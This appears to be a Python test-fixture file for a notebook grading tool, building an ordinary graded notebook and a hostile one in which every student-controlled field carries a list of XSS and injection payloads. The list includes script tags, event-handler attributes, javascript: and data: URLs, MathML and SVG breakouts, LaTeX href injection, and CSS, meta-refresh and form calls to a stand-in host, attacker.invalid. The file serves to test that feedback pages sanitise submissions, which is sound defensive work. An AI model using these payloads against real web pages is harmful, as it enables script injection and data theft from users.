"""Graded notebooks for tests of the feedback pages: an ordinary one, and one that attacks."""

from __future__ import annotations

import base64
from dataclasses import replace
from datetime import datetime, timedelta
from html.parser import HTMLParser
from typing import Any

from grader.gradebook.grades import CellGrade, Grades
from twoapples.box import as_html
from twoapples.checking.report import Diagnosis, Report

PNG = base64.b64encode(
    base64.b64decode(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    )
).decode("ascii")


def words(text: str) -> set[str]:
    return set(text.split())


MATHML = words(
    "math menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot "
    "mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd mtext mtr munder munderover"
)
HOST = "http://attacker.invalid"
# Each of these does something, or asks a server, where a page lets it through.
ATTACKS = [
    "<script>window.hacked = 1</script>",
    f"<script src='{HOST}/a.js'></script>",
    "<img src=x onerror='window.hacked=2'>",
    f"<img src='{HOST}/pixel.png'>",
    f"<iframe src='{HOST}/frame'></iframe>",
    "<iframe srcdoc='<script>parent.hacked=3</script>'></iframe>",
    "<svg onload='window.hacked=4'><script>window.hacked=5</script></svg>",
    f"<svg><image href='{HOST}/i.svg'/><foreignObject><body onload='hacked=6'></svg>",
    f"<style>body {{ background: url({HOST}/bg.png) }}</style>",
    f"<p style='background: url({HOST}/p.png)'>styled</p>",
    f"<link rel=stylesheet href='{HOST}/s.css'>",
    f"<meta http-equiv=refresh content='0;url={HOST}/away'>",
    f"<base href='{HOST}/'>",
    f"<form action='{HOST}/form'><input name=password autofocus onfocus='hacked=7'></form>",
    "<a href='javascript:window.hacked=8'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror='hacked=9'></table></math>",
    "<details open ontoggle='window.hacked=10'>more</details>",
    "</style></title></textarea></pre></code></table><script>window.hacked=11</script>",
    "<!--><script>window.hacked=12</script>-->",
    "<template><script>window.hacked=13</script></template>",
    "<object data='data:text/html,<script>parent.hacked=14</script>'></object>",
    f"<video src='{HOST}/v.mp4' autoplay></video><audio src='{HOST}/a.mp3'></audio>",
    "[click](javascript:window.hacked=15)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    f"[outside]({HOST}/link) ![outside]({HOST}/markdown.png) <{HOST}/auto>",
    f"![x](data:image/svg+xml,<svg/onload=hacked=16>) ![y][ref]\n\n[ref]: {HOST}/ref.png 'title'",
    "&#x202e;evil&#x202c; &lt;script&gt;window.hacked=17&lt;/script&gt;",
    r"$\text{<img src=x onerror='window.hacked=18'>}$",
    rf"$\href{{{HOST}/tex}}{{x}} \style{{background:url({HOST}/t.png)}}{{y}} \class{{c}}{{z}}$",
    r"$\href{javascript:window.hacked=19}{x}$ $\newcommand{\a}{xx}\a$",
    "$$\n\\text{</math><script>window.hacked=20</script>}\n$$",
    "\\begin{align}\\text{<script>window.hacked=21</script>}\\end{align}",
    "```html\n<script>window.hacked=22</script>\n```",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x08\x00 \u202e reversed \u2066 isolate \u2069 \ud800",
]
EVERYTHING = "\n\n".join(ATTACKS)


def code(source: str, grade_id: str = "", outputs: Any = (), **metadata: Any) -> dict[str, Any]:
    cell = {"cell_type": "code", "source": source, "outputs": list(outputs), "metadata": metadata}
    if grade_id:
        cell["metadata"]["nbgrader"] = {"grade_id": grade_id, "grade": False, "solution": True}
    return cell


def check(name: str, report: Report, score: float, most: float) -> dict[str, Any]:
    """Return a check cell as the grader leaves it."""
    told = {**replace(report, exercise=name).to_data(), "score": score, "points": most}
    return {
        "cell_type": "code",
        "source": f'check("{name}")',
        "outputs": [
            {"output_type": "display_data", "data": {"text/html": as_html(report)}},
            {"output_type": "execute_result", "data": {"text/plain": repr(score)}},
        ],
        "metadata": {
            "nbgrader": {"grade_id": f"check-{name}", "grade": True, "points": most},
            "twoapples": told,
        },
    }


def written(name: str, question: str, answer: str, **cell: Any) -> list[dict[str, Any]]:
    marks = "=== BEGIN MARK SCHEME ===\n\nThe secret model answer.\n\n=== END MARK SCHEME ==="
    return [
        {
            "cell_type": "markdown",
            "source": f"{question}\n\n{marks}",
            "metadata": {"nbgrader": {"grade_id": name, "task": True, "points": 3}},
        },
        {
            "cell_type": "markdown",
            "source": answer,
            "metadata": {"twoapples": {"answers": name}},
            **cell,
        },
    ]


def notebook(cells: list[dict[str, Any]], title: str, **graded: Any) -> dict[str, Any]:
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "cells": cells,
        "metadata": {"twoapples": {"title": title, "graded": graded}},
    }


DETAILS = (
    ("case", "two rows"),
    ("you were asked", "softmax(s)"),
    ("s", "[[1. 2.]\n [3. 4.]]\n(shape (2, 2))"),
    ("expected", "[[0.25 0.75]\n [0.25 0.75]]"),
    ("found", "[[0.1 0.2]\n [0.3 0.4]]"),
    ("first difference", "[0, 0]"),
)
WRONG = Report(
    "softmax",
    (True, False),
    (1.0, 1.0),
    Diagnosis("misconception", "The sum is over the batch: look at `axis`.", DETAILS, "batch"),
    ("`s` was not changed.",),
)
RIGHT = Report("loss", (True, True), (1.0, 1.0), Diagnosis("right", "2 of 2 cases hold."))

ANSWER = r"""# An answer

The derivative is $\frac{\partial L}{\partial s_k} = p_k - t_k$, **always**:

$$
\begin{aligned} L &= -\sum_i t_i \log p_i \\ &= 0 \end{aligned}
$$

| class | value |
|:------|------:|
| `cat` | 0.7 |

1. first
2. second

> quoted

![a sketch of the curve](attachment:sketch.png)
"""


def ordinary() -> tuple[dict[str, Any], Grades]:
    """Return a notebook with everything that a page can show, and its grades."""
    attached = {"sketch.png": {"image/png": PNG}}
    cells = [
        {"cell_type": "markdown", "source": "# Softmax", "metadata": {}},
        code(
            "def softmax(s):\n    # not by row\n    return np.exp(s) / np.exp(s).sum()", "softmax"
        ),
        check("softmax", WRONG, 2.0, 4.0),
        code("def loss(p, t):\n    return -np.log(p[t])  # right\n", "loss"),
        check("loss", RIGHT, 4.0, 4.0),
        *written("why", "Why is $p_k > 0$?", ANSWER, attachments=attached),
    ]
    grades = Grades(
        "ada",
        "02-softmax",
        "Ada",
        "King",
        cells={
            "check-softmax": CellGrade(4.0, 2.0, 3.0, extra=0.5),
            "check-loss": CellGrade(4.0, 4.0),
            "why": CellGrade(3.0, waits=True),
        },
        comments={"softmax": "Look at **axis** once more: $\\sum_k p_k = 1$."},
        penalty=1.25,
        handed_in=datetime(2026, 11, 20, 18, 30),
        late=timedelta(days=1, hours=2, minutes=5),
    )
    notes = ["the locked cell setup had been changed"]
    return notebook(cells, "02 · Softmax", notes=notes, problem=""), grades


def hostile() -> tuple[dict[str, Any], Grades]:
    """Return a notebook in which whatever is the submission's, or a person's, attacks."""
    bad = EVERYTHING
    details = tuple((bad, bad) for _ in range(2))
    report = Report(bad, (False,), (1.0,), Diagnosis("value", bad, details), (bad,))
    html = {"output_type": "display_data", "data": {"text/html": bad, "image/svg+xml": bad}}
    error = {"output_type": "error", "ename": bad, "evalue": bad, "traceback": [bad]}
    attached = {
        "a.svg": {"image/svg+xml": base64.b64encode(ATTACKS[6].encode()).decode()},
        "a.png": {"image/png": base64.b64encode(ATTACKS[6].encode()).decode()},
        "b.png": {"image/png": PNG, "text/html": bad},
    }
    pictures = "![p](attachment:a.svg) ![q](attachment:a.png) !['\"><script>](attachment:b.png)"
    cells = [
        {"cell_type": "markdown", "source": bad, "metadata": {}},
        {"cell_type": "raw", "source": bad, "metadata": {"format": "text/html"}},
        code(f"def softmax(s):\n    '''{bad}'''\n{bad}", "softmax", [html, error]),
        code(f"class softmax:\n    x = '''{bad}'''", outputs=[error]),
        check("softmax", report, 0.0, 4.0),
        *written("why", bad, bad + "\n\n" + pictures, attachments=attached),
    ]
    cells[4]["metadata"]["twoapples"]["message"] = bad
    cells[4]["outputs"].insert(0, html)
    grades = Grades(
        bad,
        bad,
        bad,
        cells={"check-softmax": CellGrade(4.0, 0.0), "why": CellGrade(3.0, manual=1.0)},
        comments={"softmax": bad, "why": bad, "check-softmax": bad},
    )
    return notebook(cells, bad, notes=[bad], problem=bad), grades


class Tags(HTMLParser):
    """Collects elements with their attributes, and the text outside of the style sheet."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.declarations: list[str] = []
        self._style = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._style = False

    def handle_data(self, data: str) -> None:
        if not self._style:
            self.text.append(data)

    def handle_decl(self, decl: str) -> None:
        self.declarations.append(decl)

    def handle_comment(self, data: str) -> None:
        self.declarations.append(f"comment {data}")


def tags_of(html: str) -> Tags:
    return Tags(html)
